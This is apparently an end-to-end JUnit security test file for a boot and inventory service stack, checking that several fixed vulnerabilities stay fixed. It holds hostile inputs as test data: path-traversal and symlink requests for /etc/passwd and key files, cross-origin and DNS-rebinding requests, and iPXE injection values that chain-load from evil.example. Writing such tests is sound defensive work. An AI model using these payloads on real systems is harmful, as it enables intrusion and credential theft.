package io.mercury.cli.stack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import com.mongodb.client.model.Filters;
import io.mercury.common.protocol.Request;
import io.mercury.common.transport.ServiceClient;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Security issue 14's findings F6 and F9–F12 against the stack {@link HostileStackTest} attacks: the
 * token-less loopback HTTP API as a web page could call it, log records that lie about their sender, paths
 * and ranges outside the boot directory, and agent-written values in iPXE scripts. Each is refused without
 * exception text and, where docs/security.md says so, audited.
 */
@Tag("e2e")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
@ExtendWith(SharedHostileStack.class)
class HostileInputTest {
  private static final String JOB = "{\"query\": {}, \"instruction\": {\"method\": \"echo\", \"args\": [\"pwned\"]}}";

  private HostileStack h;
  private TestStack stack;
  private TestStack.Service backend;
  private TestStack.Agent victim;
  private TestStack.Agent mallory;
  private String boot;
  private String api;
  private Path bootFiles;

  @BeforeAll
  void attach(HostileStack shared) {
    h = shared;
    stack = shared.stack;
    backend = shared.backend;
    victim = shared.victim;
    mallory = shared.mallory;
    boot = shared.boot;
    api = shared.api;
    bootFiles = shared.bootFiles;
  }

  // ---------------------------------------------------------------- F6, F11 (the HTTP API)

  private static void assertJsonError(RawHttp.Reply r, int status, String message) {
    assertThat(r.status()).as(r.body()).isEqualTo(status);
    assertThat(r.headers().get("content-type")).startsWith("application/json");
    assertThat(r.body()).contains("\"error\":true").contains(message);
    RawHttp.assertNoExceptionText(r);
  }

  @Test
  @Order(40)
  void f6_aWebPageCannotChangeAnythingThroughTheTokenlessLoopbackApi() throws Exception {
    long before = h.jobs();
    assertJsonError(RawHttp.send(api, "POST", "/api/rpc/jobs", JOB, "Content-Type: text/plain", "Origin: http://evil.example"),
        403, "Origin 'http://evil.example' may not change anything here");
    assertJsonError(RawHttp.send(api, "POST", "/api/rpc/jobs", JOB, "Content-Type: text/plain"),
        415, "POST needs Content-Type: application/json, got 'text/plain'");
    assertJsonError(RawHttp.send(api, "POST", "/api/rpc/jobs", "a=b", "Content-Type: application/x-www-form-urlencoded"), 415, "needs Content-Type: application/json");
    assertJsonError(RawHttp.send(api, "POST", "/api/rpc/jobs", JOB, "Content-Type: application/json", "Origin: http://evil.example"),
        403, "may not change anything here");
    // DNS rebinding: evil.example resolved to 127.0.0.1, the browser still says whose page it is
    int port = java.net.URI.create(api).getPort();
    assertJsonError(RawHttp.send(api, "POST", "/api/rpc/jobs", JOB, "Host: evil.example:" + port, "Content-Type: application/json"),
        421, "api.allowed_hosts");
    assertJsonError(RawHttp.send(api, "GET", "/api/inventory/computers", null, "Host: evil.example:" + port), 421, "is not one of the names this API answers to");
    assertThat(h.jobs()).as("no job was created").isEqualTo(before);

    // the operator's own requests still work, and are audited as the API acting for the client
    RawHttp.Reply ours = RawHttp.send(api, "POST", "/api/rpc/jobs",
        "{\"query\": {\"mercury_id\": \"" + victim.mercuryId() + "\"}, \"instruction\": {\"method\": \"echo\", \"args\": [\"via api\"]}}",
        "Content-Type: application/json; charset=utf-8", "Origin: http://127.0.0.1:" + port);
    assertThat(ours.status()).as(ours.body()).isEqualTo(200);
    assertThat(h.jobs()).isEqualTo(before + 1);
    assertThat(h.audit().find(Filters.and(Filters.eq("action", "create_job"), Filters.regex("who.name", "^api"), Filters.eq("outcome", "ok"))).first())
        .isNotNull();
  }

  @Test
  @Order(41)
  void f11_aBodyNestedThousandsDeepIs400() throws Exception {
    String deep = "{\"query\": " + "[".repeat(5000) + "]".repeat(5000) + "}";
    for (String path : List.of("/api/inventory/computers/query", "/api/rpc/jobs", "/api/inventory/computers/count")) {
      assertJsonError(RawHttp.send(api, "POST", path, deep, "Content-Type: application/json"),
          400, "request body is nested deeper than 64 levels of objects and arrays");
    }
    assertThat(RawHttp.send(api, "GET", "/api/active/computers", null).status()).as("the API still answers").isEqualTo(200);
  }

  // ---------------------------------------------------------------- F9

  @Test
  @Order(70)
  void f9_theLogServiceStoresWhoSentARecordNotWhoItClaims() throws Exception {
    ServiceClient malloryToLog = h.as(h.malloryKey(), stack.logService(), "log");
    Map<String, Object> event = new LinkedHashMap<>();
    event.put("time", System.currentTimeMillis() / 1000.0);
    event.put("level", "INFO");
    event.put("message", "task t-f9 sent to 10.0.0.9");
    event.put("host", "h1");
    event.put("service", "mercury-backend");
    event.put("mercury_id", victim.mercuryId());
    Map<?, ?> reply = (Map<?, ?>) malloryToLog.invoke(Request.of("log_batch", List.of(event)), false);
    assertThat(reply.get("stored")).isEqualTo(1L);

    ServiceClient operator = h.operatorTo(stack.logService(), "log");
    Map<?, ?> found = (Map<?, ?>) operator.invoke(new Request("query_logs", List.of(Map.of("identity", "mismatch")), Map.of()), true);
    Map<?, ?> stored =
        ((List<?>) found.get("events")).stream().map(e -> (Map<?, ?>) e)
            .filter(e -> "task t-f9 sent to 10.0.0.9".equals(e.get("message"))).findFirst().orElseThrow();
    assertThat(stored.get("service")).isEqualTo("mercury-agent");
    assertThat(stored.get("mercury_id")).isEqualTo(mallory.mercuryId());
    assertThat(stored.get("claimed")).isEqualTo(Map.of("service", "mercury-backend", "mercury_id", victim.mercuryId()));
    Map<?, ?> asVictim = (Map<?, ?>) operator.invoke(new Request("query_logs", List.of(Map.of("mercury_id", victim.mercuryId(), "service", "mercury-backend")), Map.of()), true);
    assertThat(asVictim.toString()).doesNotContain("t-f9");
    // an operator may not send records at all
    assertThatThrownBy(() -> h.as(h.key("reader"), stack.logService(), "log").invoke(Request.of("log_batch", List.of(event)), false))
        .hasMessage("Permission denied: log_batch needs role agent; reader has read-only");
    assertThat(h.audited("reader", "log_batch", "denied")).isNotEmpty();
  }

  // ---------------------------------------------------------------- F10

  @Test
  @Order(80)
  void f10_theBootServiceServesNoFileOutsideItsDirectoryAndNoExceptionText() throws Exception {
    byte[] kernel = new byte[1000];
    java.util.Arrays.fill(kernel, (byte) 'k');
    Files.write(bootFiles.resolve("vmlinuz"), kernel);
    Files.createSymbolicLink(bootFiles.resolve("passwd"), Path.of("/etc/passwd"));
    Files.createSymbolicLink(bootFiles.resolve("keys"), stack.keysDir());
    Files.createSymbolicLink(bootFiles.resolve("up"), Path.of(".."));
    for (String path : List.of("/files/passwd", "/files/keys/operator.key", "/files/up/keys/operator.key", "/files/../../../../etc/passwd",
        "/files/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/files/..%2f..%2f..%2fetc%2fpasswd")) {
      RawHttp.Reply r = RawHttp.send(boot, "GET", path, null);
      assertThat(r.status()).as(path + ": " + r.body()).isIn(400, 403, 404);
      assertThat(r.body()).as(path).doesNotContain("root:", "secret-key", "curve");
      RawHttp.assertNoExceptionText(r);
    }
    assertThat(RawHttp.send(boot, "GET", "/files/passwd", null).body()).isEqualTo("not found: /files/passwd\n");
    for (String range : List.of("bytes=99999999999999999999-", "bytes=5000-6000", "bytes=a-b", "bytes=-")) {
      RawHttp.Reply r = RawHttp.send(boot, "GET", "/files/vmlinuz", null, "Range: " + range);
      assertThat(r.status()).as(range + ": " + r.body()).isEqualTo(416);
      assertThat(r.headers().get("content-range")).as(range).isEqualTo("bytes */1000");
      RawHttp.assertNoExceptionText(r);
    }
    RawHttp.Reply part = RawHttp.send(boot, "GET", "/files/vmlinuz", null, "Range: bytes=990-");
    assertThat(part.status()).isEqualTo(206);
    assertThat(part.headers().get("content-range")).isEqualTo("bytes 990-999/1000");
  }

  // ---------------------------------------------------------------- F12

  @Test
  @Order(90)
  void f12_anAgentWrittenValueCannotInjectIpxeCommands() throws Exception {
    // the operator's template names a field Mallory's agent writes
    RawHttp.Reply set = RawHttp.send(api, "POST", "/api/inventory/computers/" + mallory.mercuryId() + "/boot/script",
        "{\"script\": \"#!ipxe\\necho {{dmi.sys_vendor}}\\n\"}", "Content-Type: application/json");
    assertThat(set.status()).as(set.body()).isEqualTo(200);
    assertThat(h.audit().find(Filters.and(Filters.eq("action", "update_boot"), Filters.regex("who.name", "^api"), Filters.eq("outcome", "ok"))).first())
        .isNotNull();
    String mac = TestMachines.macOf(HostileStack.MALLORY_UUID, 0);
    assertThat(h.discover(mac).body()).startsWith("#!ipxe\necho Dell Inc.");

    ServiceClient malloryToBackend = h.as(h.malloryKey(), backend.address(), "backend");
    Map<String, Object> dmi = new LinkedHashMap<>();
    ((Map<?, ?>) h.device(mallory.mercuryId()).get("dmi")).forEach((k, v) -> dmi.put((String) k, v));
    dmi.put("sys_vendor", "Dell Inc.\nchain http://evil.example/x");
    malloryToBackend.invoke(Request.of("update", mallory.mercuryId(), Map.of("dmi", dmi)), false);

    RawHttp.Reply script = h.discover(mac);
    assertThat(script.body().lines()).noneMatch(l -> l.strip().startsWith("chain"));
    assertThat(script.body())
        .startsWith("#!ipxe\necho MERCURY BOOT ERROR: boot.script of " + mallory.mercuryId() + " not served: the value of {{dmi.sys_vendor}} ")
        .contains("holds a control character (U+000A)")
        .endsWith("\nexit 1\n");
    await().atMost(Duration.ofSeconds(10)).until(() -> h.logOf("boot").contains("decision=unsafe-value"));
    assertThat(h.logOf("boot")).contains(mallory.mercuryId());

    for (String sameLine : List.of("Dell && chain http://evil.example/x", "${password}", "Dell ; chain http://evil.example/x")) {
      dmi.put("sys_vendor", sameLine);
      malloryToBackend.invoke(Request.of("update", mallory.mercuryId(), Map.of("dmi", dmi)), false);
      assertThat(h.discover(mac).body()).as(sameLine).startsWith("#!ipxe\necho MERCURY BOOT ERROR: ").doesNotContain("${password}").endsWith("\nexit 1\n");
    }
  }

}
